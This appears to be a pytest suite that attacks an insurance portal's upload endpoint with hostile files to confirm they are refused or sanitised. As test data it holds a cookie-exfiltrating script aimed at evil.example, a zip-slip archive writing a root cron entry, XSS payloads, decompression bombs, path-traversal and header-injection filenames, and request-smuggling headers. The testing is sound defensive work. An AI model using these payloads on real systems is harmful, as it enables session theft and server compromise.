"""Files that no honest person sends, over HTTP, to the running portal (SUB-4).

Each is answered in words that say what to do, and leaves nothing behind: no row, no file, nothing half
received, and the draft as it was.
"""

import asyncio
import contextlib
import hashlib
import io
import itertools
import json
import os
import pathlib
import random
import re
import socket
import sqlite3
import threading
import time
import zlib
from contextlib import closing
from dataclasses import dataclass
from urllib.parse import quote

import httpx
import pikepdf
import pytest
from PIL import Image
from pypdf import PdfReader

from tests import running
from tests.edge.clients import HYDRATE, Tab, event_names
from tests.edge.conftest import seated
from tests.factories import files
from tests.factories.files import zipped
from tests.factories.hostile_files import EVIL, acts, dangers, evil
from tests.prove.effort import effort

NAMES = event_names()
# The long proof of one test takes minutes, by the pace that the portal allows.
LONGEST_SECONDS = 2400
MEGABYTE = 1024 * 1024
MOST_FILE_BYTES = 25 * MEGABYTE
PDF, PNG, JPEG = files.pdf("Loss runs"), files.png(), files.jpeg()
WRITERS = ("marcus", "priya", "theo", "elena", "casey", "dana")
STAFF = {"casey", "dana"}
# One person adds at most this many files a minute; the proof keeps below it.
FILES_A_MINUTE = 110
SAFE_NAME = re.compile(r"[A-Za-z0-9 _()&+,'-][A-Za-z0-9 ._()&+,'-]{0,119}")
RESERVED = re.compile(r"(?i)(con|prn|aux|nul|com\d|lpt\d)(\..*)?")

NO_LENGTH = "Not added: the upload does not say how large it is. Try again."
TOO_LARGE = "Not added: the file is larger than 25 MB."
ALL_TOO_LARGE = "Not added: all files together may hold 100 MB. Remove one that is not needed."
EMPTY = "Not added: the file is empty. Choose it again or send another."
NOT_READ = (
    "Not added: the file's content is not a PDF, JPG or PNG. Save it as one and send it again."
)
NO_SUBMISSION = "This submission was not found. It may have been moved or you may not have access."


def kind_refused(ending: str) -> str:
    return f"Not added: {ending} files cannot be read here. Send a PDF, JPG or PNG."


@dataclass
class Desk:
    """One producer at the running portal with a draft of their own."""

    portal: running.Portal
    client: httpx.Client
    cookie: str
    is_staff: bool = False
    submission_id: int = 0

    @property
    def path(self) -> str:
        return f"/files/submissions/{self.submission_id}"

    def send(
        self,
        name: str,
        content,
        *,
        kind: str = "brochure",
        path: str = "",
        replaces: int = 0,
        **headers: str,
    ):
        words = {"x-file-name": quote(name, safe=""), **headers}
        about = {"document_type": kind} | ({"replaces": str(replaces)} if replaces else {})
        return self.client.post(path or self.path, params=about, content=content, headers=words)

    def start(self) -> "Desk":
        """A new draft, begun as the page begins it."""
        before = self._drafts()

        async def begin() -> None:
            tab = await Tab(self.portal.address, cookie=self.cookie).open()
            await tab.call(HYDRATE)
            await tab.heard(0.4)
            where = {"path": "/submissions/new"}
            await tab.call(NAMES["StartState.load"], **where)
            await tab.heard(0.4)
            if self.is_staff:
                # Staff say whose business it is.
                ((producer_id,),) = rows(self.portal, "SELECT max(id) FROM producer")
                await tab.call(
                    NAMES["StartState.choose_producer"], {"value": str(producer_id)}, **where
                )
            await tab.call(NAMES["StartState.start"], {"line_code": "CGL"}, **where)
            until = time.monotonic() + 10
            while self._drafts() == before and time.monotonic() < until:
                await tab.heard(0.1)
            await tab.close()

        asyncio.run(begin())
        (self.submission_id,) = self._drafts() - before
        return self

    def _drafts(self) -> set[int]:
        return {number for (number,) in rows(self.portal, "SELECT id FROM submission")}


def rows(portal: running.Portal, statement: str, *words: object) -> list[tuple]:
    with closing(sqlite3.connect(portal.var / "portal.sqlite3", timeout=30)) as raw:
        return raw.execute(statement, words).fetchall()


def files_of(portal: running.Portal) -> dict[str, int]:
    """Every file under the folders that uploads pass through."""
    return {
        str(path.relative_to(portal.var)): path.stat().st_size
        for folder in ("files", "quarantine")
        for path in (portal.var / folder).rglob("*")
        if path.is_file()
    }


def kept(desk: Desk) -> dict[str, object]:
    """Everything an upload to a draft could change."""
    number = desk.submission_id
    return {
        "draft": rows(desk.portal, "SELECT * FROM submission WHERE id = ?", number),
        "timeline": rows(
            desk.portal, "SELECT count(*) FROM submission_event WHERE submission_id = ?", number
        ),
        "documents": rows(desk.portal, "SELECT id, sha256, removed_at FROM document ORDER BY id"),
        "audit": rows(
            desk.portal, "SELECT count(*) FROM audit_record WHERE action LIKE 'document.%'"
        ),
        "files": files_of(desk.portal),
    }


def settled(desk: Desk, wanted: dict[str, object], seconds: float = 10) -> dict[str, object]:
    """What is kept, once a request that nobody waits for has been cleared away."""
    until = time.monotonic() + seconds
    while (found := kept(desk)) != wanted and time.monotonic() < until:
        time.sleep(0.05)
    return found


@pytest.fixture(scope="module")
def quiet(demonstration_folder, tmp_path_factory):
    """A portal of its own, so that what others do on theirs is not mistaken for traces."""
    var = tmp_path_factory.mktemp("uploads") / "var"
    running.demonstration(demonstration_folder, var)
    with running.running(var, PORTAL_SCHEDULER_ON="false") as portal:
        yield portal


@pytest.fixture(scope="module")
def desks(quiet):
    made = {}
    for key in WRITERS:
        visitor = seated(quiet, f"{key}@harborline.example")
        visitor.client.timeout = httpx.Timeout(60)
        made[key] = Desk(quiet, visitor.client, visitor.cookie, key in STAFF).start()
    yield made
    assert "unexpected failure" not in quiet.words()
    assert "Traceback" not in quiet.words()
    for desk in made.values():
        desk.client.close()


@pytest.fixture
def marcus(desks):
    return desks["marcus"]


# --- what a file pretends to be -------------------------------------------------------------------


DOCX_BOMB = zipped(
    ("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"\x00" * 20_000_000)
)
ZIP_SLIP = zipped(("../../../../etc/cron.d/portal", b"* * * * * root id"))
SCRIPT = b"<script>fetch('//evil.example/'+document.cookie)</script>"
REFUSED = {
    "a page named as a PDF": ("runs.pdf", b"<!doctype html>" + SCRIPT, NOT_READ),
    "a drawing with a script in it": (
        "logo.svg",
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        kind_refused("SVG"),
    ),
    "a drawing named as a picture": ("logo.png", b"<svg><script>1</script></svg>", NOT_READ),
    "a script named as a PDF": ("runs.pdf", b"alert(document.cookie)", NOT_READ),
    "a program": ("runs.exe", b"MZ\x90\x00" + b"\x00" * 200, kind_refused("EXE")),
    "a program named as a PDF": ("runs.pdf", b"MZ\x90\x00" + b"\x00" * 200, NOT_READ),
    "a program for another system": ("runs.pdf", b"\x7fELF\x02\x01\x01" + b"\x00" * 90, NOT_READ),
    "a shell script": ("runs.jpg", b"#!/bin/sh\nid\n", NOT_READ),
    "a picture that is a script too": (
        "cat.gif",
        b"GIF89a/*" + b"*/=1;alert(1)",
        kind_refused("GIF"),
    ),
    "a PDF that begins as something else": ("runs.pdf", SCRIPT + PDF, NOT_READ),
    "a PDF after a blank": ("runs.pdf", b" " + PDF, NOT_READ),
    "an archive that begins as one and ends as a PDF": (
        "a.pdf",
        zipped(("a", b"a")) + PDF,
        NOT_READ,
    ),
    "a document that unpacks to twenty megabytes": ("plan.docx", DOCX_BOMB, kind_refused("DOCX")),
    "the same, named as a PDF": ("plan.pdf", DOCX_BOMB, NOT_READ),
    "an archive that climbs out of its folder": ("a.zip", ZIP_SLIP, kind_refused("ZIP")),
    "packed text": ("runs.pdf", zlib.compress(b"0" * 1_000_000), NOT_READ),
    "a letter of words": ("runs.txt", b"Loss runs, five years", kind_refused("TXT")),
    "the first byte of a PDF": ("runs.pdf", b"%", NOT_READ),
    "all but the last byte of a picture's mark": ("a.png", PNG[:7], NOT_READ),
    "an empty file": ("runs.pdf", b"", EMPTY),
    "two files in one request, as an old form sends them": (
        "runs.pdf",
        b'--x\r\nContent-Disposition: form-data; name="a"; filename="a.pdf"\r\n\r\n'
        + PDF
        + b'\r\n--x\r\nContent-Disposition: form-data; name="b"; filename="b.pdf"\r\n\r\n'
        + PDF
        + b"\r\n--x--\r\n",
        NOT_READ,
    ),
}


@pytest.mark.parametrize("case", REFUSED)
def test_what_is_no_pdf_and_no_picture_is_refused_in_words_and_leaves_nothing(marcus, case):
    name, content, words = REFUSED[case]
    before = kept(marcus)
    answer = marcus.send(name, content)
    assert (answer.status_code, answer.json()["detail"]) == (409, words)
    assert kept(marcus) == before


HOSTILE_NAMES = {
    "a path upward": "../../../../etc/passwd.pdf",
    "a path of another system": "..\\..\\windows\\system32\\runs.pdf",
    "an absolute path": "/etc/cron.d/runs.pdf",
    "a drive": "C:\\runs.pdf",
    "only dots": "....",
    "nothing": "",
    "a NUL": "runs.pdf\x00.exe",
    "line breaks": "runs\r\nSet-Cookie: portal=mine\r\n.pdf",
    "right to left": "runs\u202efdp.exe",
    "three hundred letters": "r" * 300 + ".pdf",
    "three hundred letters of another script": "文" * 300 + ".pdf",
    "a device": "CON.pdf",
    "another device": "nul",
    "a numbered device": "com1.pdf",
    "a hidden file": ".htaccess",
    "markup": "<img src=x onerror=alert(1)>.pdf",
    "quotes": 'a"; filename="b.exe".pdf',
    "an option": "-rf.pdf",
    "a wrong ending": "runs.exe",
    "two endings": "runs.pdf.exe",
    "a broken escape": "runs%zz%f.pdf",
    "a lone half of a letter": "runs\udcff.pdf",
}


@pytest.mark.parametrize("case", HOSTILE_NAMES)
def test_a_good_file_with_a_bad_name_is_kept_under_a_good_one(marcus, case):
    """The name is a word to show: it never becomes a path, a header or a program."""
    before = kept(marcus)["files"]
    sent = HOSTILE_NAMES[case].encode("utf-8", "surrogateescape")
    answer = marcus.send("", files.pdf(case), **{"x-file-name": quote(sent, safe="")})
    assert answer.status_code == 201, answer.text
    served = check_kept(marcus, answer.json()["document_id"], "application/pdf")
    assert words_in(served) == case
    added = set(kept(marcus)["files"]) - set(before)
    assert all(re.fullmatch(r"files/[0-9a-f]{2}/[0-9a-f]{64}", path) for path in added), added


MARKS = {"application/pdf": b"%PDF-", "image/png": b"\x89PNG", "image/jpeg": b"\xff\xd8\xff"}
ENDINGS = {"application/pdf": ".pdf", "image/png": ".png", "image/jpeg": ".jpg"}


def check_kept(desk: Desk, document_id: int, content_type: str) -> bytes:
    """A kept file has a harmless name and content, and comes back to be saved and never shown."""
    ((name, sha256),) = rows(
        desk.portal, "SELECT filename, sha256 FROM document WHERE id = ?", document_id
    )
    assert SAFE_NAME.fullmatch(name), name
    assert not RESERVED.fullmatch(name), name
    assert name.endswith(ENDINGS[content_type])
    answer = desk.client.get(f"/files/{document_id}")
    assert hashlib.sha256(answer.content).hexdigest() == sha256
    assert answer.headers["content-type"] == content_type
    assert answer.headers["content-disposition"] == f"attachment; filename*=UTF-8''{quote(name)}"
    assert "sandbox" in answer.headers["content-security-policy"]
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.content.startswith(MARKS[content_type])
    check_harmless(answer.content, content_type)
    return answer.content


def check_harmless(content: bytes, content_type: str) -> None:
    """Nothing that acts, nothing that tells where a photo was taken, nothing after the end."""
    for word in (b"<script", b"Secret", b"MZ\x90", b"PK\x03\x04", b"EICAR"):
        assert word not in content
    if content_type == "application/pdf":
        assert dangers(content) == []
        return
    with Image.open(io.BytesIO(content)) as picture:
        assert not picture.getexif()
        assert not {"comment", "exif", "xmp", "Comment"} & set(picture.info)


def words_in(content: bytes) -> str:
    return PdfReader(io.BytesIO(content)).pages[0].extract_text().strip()


EVIL_PDFS = {case: evil(change) for case, change in EVIL.items()}


@pytest.mark.parametrize("case", EVIL_PDFS)
def test_a_pdf_that_acts_is_kept_as_one_that_does_not(marcus, case):
    """What is served is never what was sent."""
    assert acts(EVIL_PDFS[case])
    answer = marcus.send("runs.pdf", EVIL_PDFS[case])
    assert answer.status_code == 201, answer.text
    served = check_kept(marcus, answer.json()["document_id"], "application/pdf")
    assert acts(served) == []
    assert "Kestrel" in words_in(served)


def test_a_photo_is_kept_without_the_place_it_was_taken(marcus):
    answer = marcus.send("photo.jpg", files.jpeg(640, 480, turned=6))
    assert answer.status_code == 201, answer.text
    served = check_kept(marcus, answer.json()["document_id"], "image/jpeg")
    with Image.open(io.BytesIO(served)) as picture:
        assert picture.size == (480, 640)


def _bomb() -> bytes:
    out = io.BytesIO()
    Image.new("1", (30_000, 30_000)).save(out, "PNG")
    return out.getvalue()


def _locked() -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(PDF)) as made:
        made.save(out, encryption=pikepdf.Encryption(user="secret", owner="secret"))
    return out.getvalue()


UNSAFE = {
    "a picture of a billion pixels": ("site.png", _bomb(), "more than 50 million pixels"),
    "half a photo": ("site.jpg", files.jpeg(640, 480)[:900], "damaged"),
    "only the mark of a picture": ("site.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 64, "damaged"),
    "half a PDF": ("runs.pdf", PDF[: len(PDF) // 2], "cut short"),
    "only the mark of a PDF": ("runs.pdf", b"%PDF-1.7\n1 0 obj<<>>endobj\n%%EOF\n", "damaged"),
    "a PDF behind a password": ("runs.pdf", _locked(), "protected by a password"),
}


@pytest.mark.parametrize("case", UNSAFE)
def test_what_cannot_be_made_safe_is_refused_in_words_and_leaves_nothing(marcus, case):
    name, content, words = UNSAFE[case]
    before = kept(marcus)
    answer = marcus.send(name, content)
    assert answer.status_code == 409
    assert answer.json()["detail"].startswith("Not added: ")
    assert words in answer.json()["detail"]
    assert kept(marcus) == before


def test_a_workbook_is_taken_only_where_the_form_says_so(marcus):
    before = kept(marcus)
    answer = marcus.send("values.xlsx", files.workbook())
    assert (answer.status_code, answer.json()["detail"]) == (409, kind_refused("XLSX"))
    assert kept(marcus) == before


# --- how it is asked -----------------------------------------------------------------------------


def test_a_file_goes_to_ones_own_open_submission_or_nowhere(desks):
    """Somebody else's, a missing one and what is no number get one answer (RBAC-4)."""
    marcus, theo = desks["marcus"], desks["theo"]
    before = kept(marcus), kept(theo)
    told = set()
    for where in (theo.submission_id, 9_999_999, "9" * 30, "abc", "0", "-1", "%2e%2e", "1e3", "١"):
        answer = marcus.send("runs.pdf", PDF, path=f"/files/submissions/{where}")
        assert answer.status_code == 404, where
        told.add(answer.json()["detail"])
    assert told == {NO_SUBMISSION}
    assert (kept(marcus), kept(theo)) == before


@pytest.mark.parametrize("kind", ["", "no_such_paper", "loss_runs'--", "x" * 5000, "\x00"])
def test_a_file_without_a_known_type_is_refused(marcus, kind):
    before = kept(marcus)
    answer = marcus.send("runs.pdf", PDF, kind=kind)
    assert (answer.status_code, answer.json()["detail"]) == (422, "Select a type of document")
    assert kept(marcus) == before


def test_without_a_session_or_from_another_site_nothing_is_read(marcus, desks):
    before = kept(marcus)
    stranger = httpx.post(
        marcus.portal.address + marcus.path, content=PDF, headers={"origin": marcus.portal.address}
    )
    assert (stranger.status_code, stranger.json()["detail"]) == (401, "Sign in and try again.")
    for origin in ("https://evil.example", "null", ""):
        answer = marcus.send("runs.pdf", PDF, origin=origin)
        assert (answer.status_code, answer.json()["detail"]) == (
            403,
            "This came from another site.",
        )
    assert kept(marcus) == before


def test_an_ended_session_adds_nothing_not_even_what_was_on_its_way(desks):
    """ACC-7: Dana's session is ended while her file is half-way; it is not added."""
    dana = desks["dana"]
    before = kept(dana)
    line = Line(dana)
    line.begin(length=len(PDF))
    line.send(PDF[:20])
    assert dana.client.post("/sign-out").status_code == 303
    line.send(PDF[20:])
    status, words = line.answer()
    assert (status, words["detail"]) == (
        403,
        "Your session has ended. Sign in and add the file again.",
    )
    again = dana.send("runs.pdf", PDF, cookie=dana.cookie)
    assert (again.status_code, again.json()["detail"]) == (401, "Sign in and try again.")
    assert settled(dana, before) == before


# --- how much it is ------------------------------------------------------------------------------


class Line:
    """A bare connection: says what it likes about how much is coming."""

    def __init__(self, desk: Desk) -> None:
        self.desk = desk
        self.socket = socket.create_connection(("127.0.0.1", desk.portal.port), timeout=30)

    def begin(self, *, length: int | None = None, more: str = "") -> None:
        lines = [
            f"POST {self.desk.path}?document_type=brochure HTTP/1.1",
            f"Host: localhost:{self.desk.portal.port}",
            f"Origin: {self.desk.portal.address}",
            f"Cookie: {self.desk.cookie}",
            "X-File-Name: runs.pdf",
            *([] if length is None else [f"Content-Length: {length}"]),
            *([more] if more else []),
        ]
        self.send(("\r\n".join(lines) + "\r\n\r\n").encode())

    def send(self, content: bytes) -> None:
        self.socket.sendall(content)

    def hang_up(self) -> None:
        self.socket.close()

    def answer(self) -> tuple[int, dict]:
        """The status and the words, or (0, {}) when the portal just closed the line."""
        heard = b""
        try:
            while b"\r\n\r\n" not in heard or not _is_whole(heard):
                piece = self.socket.recv(65536)
                if not piece:
                    break
                heard += piece
        except ConnectionError:
            pass
        self.socket.close()
        if not heard:
            return 0, {}
        head, _, body = heard.partition(b"\r\n\r\n")
        # Only the first answer: whatever follows the file is answered too, and the line closed.
        words = body[: _length(head) or 0]
        return int(head.split(b" ")[1]), json.loads(words) if words.startswith(b"{") else {}


def _is_whole(heard: bytes) -> bool:
    head, _, body = heard.partition(b"\r\n\r\n")
    return len(body) >= (_length(head) or 0)


def _length(head: bytes) -> int | None:
    told = re.search(rb"(?i)content-length: (\d+)", head)
    return int(told[1]) if told else None


def test_twenty_five_megabytes_fit_and_one_byte_more_does_not(desks):
    theo = desks["theo"]
    before = kept(theo)
    over = theo.send("runs.pdf", files.pdf_of_size(MOST_FILE_BYTES + 1))
    assert (over.status_code, over.json()["detail"]) == (409, TOO_LARGE)
    assert kept(theo) == before
    fits = files.pdf_of_size(MOST_FILE_BYTES)
    answer = theo.send("runs.pdf", fits)
    assert answer.status_code == 201, answer.text
    check_kept(theo, answer.json()["document_id"], "application/pdf")


def test_a_hundred_megabytes_fit_a_submission_and_one_byte_more_does_not(desks):
    """What counts is what was sent: four files that fill it to the byte, then a single byte too much."""
    casey = desks["casey"].start()
    for number in range(3):
        sent = casey.send("runs.pdf", files.pdf_of_size(MOST_FILE_BYTES, f"Part {number}"))
        assert sent.status_code == 201, sent.text
    tiny = files.pdf("Tiny")
    last = casey.send("runs.pdf", files.pdf_of_size(MOST_FILE_BYTES - len(tiny) + 1, "Part 3"))
    assert last.status_code == 201, last.text
    before = kept(casey)
    over = casey.send("runs.pdf", tiny)
    assert (over.status_code, over.json()["detail"]) == (409, ALL_TOO_LARGE)
    assert kept(casey) == before
    replaced = casey.send(
        "runs.pdf",
        files.pdf_of_size(MOST_FILE_BYTES - len(tiny), "Part 3"),
        replaces=last.json()["document_id"],
    )
    assert replaced.status_code == 201, replaced.text
    exact = casey.send("runs.pdf", tiny)
    assert exact.status_code == 201, "a version that was replaced takes no room"
    ((total,),) = rows(
        casey.portal,
        "SELECT sum(sent_bytes) FROM document WHERE subject_id = ? AND replaced_at IS NULL",
        casey.submission_id,
    )
    assert total == 100 * MEGABYTE


def test_a_file_that_does_not_say_how_large_it_is_is_not_read(marcus):
    before = kept(marcus)
    answer = marcus.send("runs.pdf", itertools.repeat(b"%PDF-" + b"0" * 1000, 50))
    assert (answer.status_code, answer.json()["detail"]) == (409, NO_LENGTH)
    assert kept(marcus) == before


@pytest.mark.parametrize(
    "told",
    [
        "Content-Length: -1",
        "Content-Length: 26214401",
        "Content-Length: 99999999999999999999999",
        "Content-Length: 0x10",
        "Content-Length: 1e3",
        "Content-Length: \u00b2",
        "Content-Length:",
        "Content-Length: 46\r\nContent-Length: 47",
        "Transfer-Encoding: chunked\r\nContent-Length: 46",
        "Transfer-Encoding: chunked, identity",
    ],
)
def test_a_length_that_is_none_is_refused(marcus, told):
    """Either the portal says so in words or the server in front of it closes the line."""
    before = kept(marcus)
    line = Line(marcus)
    line.begin(more=told)
    line.send(PDF)
    status, words = line.answer()
    assert status in {0, 400, 409, 411, 413}, status
    assert status != 409 or words["detail"] in {NO_LENGTH, TOO_LARGE}
    assert settled(marcus, before) == before


def test_a_file_longer_than_it_said_is_judged_by_what_it_said(marcus):
    """What follows the announced bytes is no part of the file, and no request of its own either."""
    before = kept(marcus)
    line = Line(marcus)
    line.begin(length=4)
    line.send(PDF)
    status, words = line.answer()
    assert (status, words["detail"]) == (409, NOT_READ)
    assert settled(marcus, before) == before


@pytest.mark.parametrize("arrives", [0, 1, 40, 70_000, 3 * MEGABYTE])
def test_a_file_that_stops_half_way_leaves_nothing(marcus, arrives):
    before = kept(marcus)
    line = Line(marcus)
    line.begin(length=5 * MEGABYTE)
    line.send(files.pdf_of_size(5 * MEGABYTE)[:arrives])
    line.hang_up()
    assert settled(marcus, before) == before


def test_a_file_that_stalls_is_let_go(marcus):
    """The long proof waits for it: nobody holds a place for more than half a minute in silence."""
    if effort(0, 1) == 0:
        return
    before = kept(marcus)
    line = Line(marcus)
    line.socket.settimeout(60)
    line.begin(length=MEGABYTE)
    line.send(PDF)
    began = time.monotonic()
    status, words = line.answer()
    assert 25 < time.monotonic() - began < 45
    assert (status, words["detail"]) == (
        409,
        "Not added: the upload stopped before it was complete. Try again.",
    )
    assert settled(marcus, before) == before


def test_thirty_files_at_once_at_the_limit_are_four(desks):
    """All together may hold 100 MB: whoever comes after that leaves no bytes, however close the race."""
    priya = desks["priya"].start()
    before = kept(priya)
    told: list[tuple[int, str]] = []

    def add(number: int) -> None:
        content = files.pdf_of_size(MOST_FILE_BYTES, f"Thread {number}")
        with httpx.Client(base_url=priya.portal.address, timeout=120) as own:
            answer = own.post(
                priya.path,
                params={"document_type": "brochure"},
                content=content,
                headers={
                    "cookie": priya.cookie,
                    "origin": priya.portal.address,
                    "x-file-name": f"{number}.pdf",
                },
            )
        told.append((answer.status_code, answer.json().get("detail", "")))

    threads = [threading.Thread(target=add, args=(number,)) for number in range(30)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(told) == [(201, "")] * 4 + [(409, ALL_TOO_LARGE)] * 26
    after = kept(priya)
    assert len(after["documents"]) == len(before["documents"]) + 4
    assert len(after["files"]) == len(before["files"]) + 4


# --- thousands -----------------------------------------------------------------------------------


ANYTHING = {201, 409}


def made_up(chance: random.Random) -> tuple[str, bytes, set[int]]:
    """A name, a content, and what may come of it: kept as a harmless copy, refused, or either."""
    content = chance.choice((PDF, PNG, JPEG, *EVIL_PDFS.values()))
    name = chance.choice((*HOSTILE_NAMES.values(), "runs.pdf", "photo.jpg", "scan.png"))
    deed = chance.randrange(9)
    if deed == 0:
        name, content, _ = chance.choice([*REFUSED.values(), *UNSAFE.values()])
        return name, content, {409}
    if deed == 1:
        return name, content[: chance.randrange(3)], {409}
    if deed == 2:
        return name, bytes([content[0] ^ chance.randrange(1, 256)]) + content[1:], {409}
    if deed == 3:
        return name, chance.randbytes(chance.randrange(1, 5000)).lstrip(b"%\x89\xff"), {409}
    if deed == 4:
        return name, content[: chance.randrange(4, len(content))], ANYTHING
    if deed in {5, 6}:
        return name, _spoilt(content, chance), ANYTHING
    letters = [
        chance.choice("ab/\\.%\x00\n\r\u202e\u200b<>\"';é文 ") for _ in range(chance.randrange(400))
    ]
    return "".join(letters), content + SCRIPT + chance.randbytes(chance.randrange(1500)), {201}


def _spoilt(content: bytes, chance: random.Random) -> bytes:
    """A file with some of its bytes changed, doubled or torn out."""
    spoilt = bytearray(content)
    for _ in range(chance.randrange(1, 12)):
        place = chance.randrange(8, len(spoilt))
        deed = chance.randrange(3)
        if deed == 0:
            spoilt[place] = chance.randrange(256)
        elif deed == 1:
            spoilt[place:place] = spoilt[place : place + chance.randrange(200)]
        else:
            del spoilt[place : place + chance.randrange(20)]
    return bytes(spoilt)


def peak_bytes(portal: running.Portal) -> int:
    """The most memory that any process of the portal itself ever held at once."""
    peaks = [0]
    for status in pathlib.Path("/proc").glob("[0-9]*/status"):
        with contextlib.suppress(OSError, ProcessLookupError):
            if os.getpgid(int(status.parent.name)) != portal.process.pid:
                continue
            found = re.search(r"VmHWM:\s+(\d+) kB", status.read_text())
            peaks.append(int(found[1]) * 1024 if found else 0)
    return max(peaks)


# People may add so many files a minute: ten thousand take five of them most of half an hour.
@pytest.mark.timeout(3600)
def test_thousands_of_made_up_files_are_each_kept_safely_or_refused(desks):
    """S5: seeded; what is refused leaves nothing and what is kept is safe, each within ten seconds."""
    count = effort(150, 10_000)
    chance = random.Random(20261120)
    # A draft of their own each, so that what other tests added takes no room.
    writers = [desks[key].start() for key in ("elena", "casey", "theo", "priya", "marcus")]
    # Priya and Marcus have added many already, by other tests.
    spent = {key: [time.monotonic()] * (45 if key < 4 else 105) for key in range(len(writers))}
    refused = added = 0
    slowest = 0.0
    for number in range(count):
        desk = writers[number % len(writers)]
        wait_for_turn(spent[number % len(writers)])
        name, content, wanted = made_up(chance)
        before = kept(desk) if number % 10 == 0 else None
        began = time.monotonic()
        answer = desk.send(
            "", content, **{"x-file-name": quote(name.encode("utf-8", "surrogateescape"), safe="")}
        )
        slowest = max(slowest, time.monotonic() - began)
        assert answer.status_code in wanted, (name, content[:40], answer.text)
        if answer.status_code == 201:
            added += 1
            number_of = answer.json()["document_id"]
            ((told,),) = rows(
                desk.portal, "SELECT content_type FROM document WHERE id = ?", number_of
            )
            check_kept(desk, number_of, told)
        else:
            refused += 1
            assert answer.json()["detail"].startswith("Not added: ")
            assert before is None or kept(desk) == before
    check_at_rest(writers[0].portal)
    assert slowest < 10
    assert refused > count // 4
    assert added > count // 4
    peak = peak_bytes(writers[0].portal)
    print(
        f"\n{count} made-up files: {refused} refused, {added} kept safely, slowest {slowest:.2f} s, "
        f"peak of the portal's process {peak // MEGABYTE} MB"
    )
    assert 0 < peak < 512 * MEGABYTE


def check_at_rest(portal: running.Portal) -> None:
    """Every file at rest has its row, the same bytes lie there once, and none waits in quarantine."""
    named = [place for (place,) in rows(portal, "SELECT place FROM kept_file")]
    assert sorted(files_of(portal)) == sorted(f"files/{place}" for place in named)
    ((documents, hashes),) = rows(portal, "SELECT count(*), count(DISTINCT sha256) FROM document")
    assert len(named) == hashes <= documents


def wait_for_turn(spent: list[float]) -> None:
    """People are slowed to so many files a minute; the proof is slower than that."""
    now = time.monotonic()
    if len(spent) >= FILES_A_MINUTE and now - spent[-FILES_A_MINUTE] < 60.5:
        time.sleep(60.5 - (now - spent[-FILES_A_MINUTE]))
    spent.append(time.monotonic())
